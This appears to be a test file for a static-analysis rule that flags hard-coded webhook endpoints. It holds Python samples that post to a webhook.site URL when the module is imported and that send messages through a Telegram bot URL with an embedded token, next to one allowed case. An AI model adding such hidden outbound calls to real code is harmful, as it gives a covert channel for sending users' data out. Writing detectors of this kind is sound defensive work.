import requests


def alert(text):
    # ruleid: webhook-endpoint
    requests.post("https://webhook.site/1f2e3d4c-0000-4000-8000-123456789abc", json={"t": text})


# Called when the module is imported, so the code above runs at import time.
alert(1)


def send_report(text):
    # The token is written into an f-string whose other parts are known only at run time.
    # ruleid: webhook-endpoint
    requests.get(f"https://api.telegram.org/bot7310952846:AAGq3xT9vLw2ZkQ8mNcR5pYb1HsJd4FeUo0/sendMessage?chat_id=5&text={text}")


def send_with_user_token(token, text):
    # The token comes from the caller: a client library, not a hard-coded channel.
    # ok: webhook-endpoint
    requests.get(f"https://api.telegram.org/bot{token}/sendMessage?text={text}")
